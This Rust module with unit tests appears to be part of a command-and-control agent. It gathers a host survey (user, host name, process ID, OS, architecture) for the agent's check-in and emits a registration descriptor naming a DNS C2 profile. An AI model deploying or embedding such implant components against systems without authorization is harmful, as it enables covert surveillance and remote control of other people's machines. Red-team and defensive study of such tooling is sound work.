//! Check-in payload and registration descriptor.
//!
//! The check-in is the one-time upload establishing the agent's session: a
//! small host-survey JSON document pushed over the chunked transfer path.
//! Once the upload is acknowledged, the registration descriptor (UUID plus
//! transport identifier) is emitted to the registration collaborator —
//! standard output — exactly once.

use crate::config::AgentIdentity;

/// Transport identifier reported in the registration descriptor.
const C2_PROFILE: &str = "dns";

/// Builds the host-survey JSON document transmitted at check-in.
pub fn system_info(identity: &AgentIdentity) -> String {
    let user = std::env::var("USER")
        .or_else(|_| std::env::var("USERNAME"))
        .unwrap_or_else(|_| "unknown".to_string());
    let host = std::env::var("HOSTNAME")
        .or_else(|_| std::env::var("COMPUTERNAME"))
        .unwrap_or_else(|_| "unknown".to_string());

    format!(
        "{{\"uuid\":\"{}\",\"user\":\"{}\",\"host\":\"{}\",\"pid\":{},\"os\":\"{}\",\"architecture\":\"{}\"}}",
        identity.uuid,
        user,
        host,
        std::process::id(),
        std::env::consts::OS,
        std::env::consts::ARCH,
    )
}

/// Builds the registration descriptor emitted once after a successful
/// check-in.
pub fn callback_descriptor(identity: &AgentIdentity) -> String {
    format!(
        "{{\"uuid\":\"{}\",\"c2_profile\":\"{}\"}}",
        identity.uuid, C2_PROFILE
    )
}

/// Emits the descriptor to the registration collaborator (stdout).
pub fn register_callback(descriptor: &str) {
    println!("{}", descriptor);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn identity() -> AgentIdentity {
        AgentIdentity::new(
            "eff1d21a-3fb3-434b-8db3-1f6f3510623b".to_string(),
            "key".to_string(),
        )
        .unwrap()
    }

    #[test]
    fn descriptor_carries_uuid_and_transport() {
        let descriptor = callback_descriptor(&identity());
        assert_eq!(
            descriptor,
            "{\"uuid\":\"eff1d21a-3fb3-434b-8db3-1f6f3510623b\",\"c2_profile\":\"dns\"}"
        );
    }

    #[test]
    fn system_info_embeds_the_identity() {
        let info = system_info(&identity());
        assert!(info.contains("\"uuid\":\"eff1d21a-3fb3-434b-8db3-1f6f3510623b\""));
        assert!(info.contains("\"pid\":"));
    }
}
